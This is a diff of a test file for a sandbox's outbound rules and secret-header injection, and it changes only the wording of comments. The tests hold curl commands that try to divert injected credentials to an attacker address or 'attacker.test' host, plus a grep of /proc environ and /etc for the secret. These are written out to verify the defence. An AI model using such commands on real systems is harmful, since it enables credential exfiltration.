@@ -90,7 +90,7 @@ test('a rule grants no access, and an allow of the name does', async () => {
   ).toBe('string');
   await lab.update(sandbox, { internetAccess: false, allowOut: ['allowed.test'], headerRules });
   expect(await headers(sandbox, 'https://allowed.test/headers')).toMatchObject({ authorization: secret });
-  // Under the default, what an address denies a rule does not open.
+  // Under the default, a rule does not open what an address denies.
   await lab.update(sandbox, { internetAccess: true, denyOut: [`${addresses.allowed}/32`], headerRules });
   expect(
     typeof (await headers(sandbox, 'https://allowed.test/headers', `--resolve allowed.test:443:${addresses.other}`)),
@@ -102,12 +102,12 @@ test('the values go to the named host alone', async () => {
   const sandbox = await lab.create({ ...open, allowOut: ['0.0.0.0/0'] });
   await lab.visits();
   const attempts = [
-    // The address of another server, under the rule's name: the request goes to the name's own address.
+    // The address of another server under the rule's name: the request goes to the name's own address.
     `curl -sS --max-time 3 --resolve allowed.test:443:${addresses.attacker} https://allowed.test/headers`,
     `curl -sS --max-time 3 --resolve allowed.test:80:${addresses.attacker} http://allowed.test/headers`,
     // A server that can't prove its name.
     'curl -skS --max-time 3 https://impostor.test/headers',
-    // Another host inside of the connection.
+    // Another host inside the connection.
     'curl -sS --max-time 3 -H "Host: attacker.test" https://allowed.test/headers',
     'curl -sS --max-time 3 -H "Host: attacker.test" http://allowed.test/headers',
     // On another port nothing is added.
@@ -128,7 +128,7 @@ test('the values go to the named host alone', async () => {
   expect(
     (await lab.run(sandbox, `grep -rlE "s3cret-value" /run /etc /proc/*/environ /tmp /var 2>/dev/null | head`)).stdout,
   ).toBe('');
-  // The server tells them back, and programs print that: not even then.
+  // The server echoes them, and programs print that: not even then.
   await lab.run(sandbox, 'echo that was all');
   const history = await waitFor('what they print to be in the log', async () => {
     const lines = (await lab.history(sandbox)).join('\n');
